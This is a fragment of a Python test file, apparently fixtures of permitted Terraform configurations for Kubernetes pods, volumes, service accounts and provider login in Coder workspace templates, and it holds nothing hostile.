    "a local module": 'module "l" {\n source = "./local"\n name = "x"\n }\n',
    "a pod": pod(main("security_context {\n run_as_user = 1000\n allow_privilege_escalation = false\n }")),
    **{f"a harmless {type}": pod(main(), type=type) for type in WORKLOADS if type not in ("kubernetes_pod_v1",)},
    "a pod with a claim": f'resource "kubernetes_persistent_volume_claim_v1" "c" {{\n metadata {{\n name = "coder-{_ID}"\n }}\n spec {{\n'
    ' access_modes = ["ReadWriteOnce"]\n resources {\n requests = { storage = "1Gi" }\n }\n }\n }\n'
    + pod(
        main('volume_mount {\n name = "v"\n mount_path = "/v"\n }')
        + '\n volume {\n name = "v"\n persistent_volume_claim {\n claim_name = kubernetes_persistent_volume_claim_v1.c.metadata[0].name\n }\n }'
    ),
    "a pod with memory, a secret and a configuration": pod(
        main() + '\n volume {\n name = "a"\n empty_dir {\n medium = "Memory"\n }\n }\n volume {\n name = "b"\n secret {\n secret_name = "team"\n'
        ' }\n }\n volume {\n name = "c"\n config_map {\n name = "team"\n }\n }'
    ),
    "the node's modules": pod(
        main('volume_mount {\n name = "v"\n mount_path = "/lib/modules"\n read_only = true\n }')
        + '\n volume {\n name = "v"\n host_path {\n path = "/lib/modules"\n }\n }'
    ),
    "a pool of nodes": pod(
        'node_selector = { pool = "workspaces" }\n toleration {\n key = "dedicated"\n operator = "Equal"\n value = "workspaces"\n }\n' + main()
    ),
    "a GPU of the node's": pod(main('resources {\n limits = { cpu = "2", memory = "4Gi", "nvidia.com/gpu" = "1" }\n }')),
    "a service account without its token": pod('service_account_name = "team"\n automount_service_account_token = false\n' + main()),
    "a service account of the template's": 'resource "kubernetes_service_account_v1" "a" {\n metadata {\n name = "coder-x"\n }\n }\n'
    + pod("service_account_name = kubernetes_service_account_v1.a.metadata[0].name\n" + main()),
    "a service": 'resource "kubernetes_service_v1" "s" {\n metadata {\n name = "s"\n }\n spec {\n port {\n port = 80\n }\n }\n }\n',
    "a manifest of a pod": 'resource "kubernetes_manifest" "m" {\n manifest = { apiVersion = "v1", kind = "Pod", metadata = { name = "p" }, spec = {\n'
    ' containers = [{ name = "c", image = "i" }] } }\n }\n',
    "a login by a cloud's command": 'provider "kubernetes" {\n alias = "x"\n exec {\n api_version = "client.authentication.k8s.io/v1"\n'
    ' command = "aws"\n args = ["eks", "get-token", "--cluster-name", "dev"]\n }\n }\n',
}  # fmt: skip
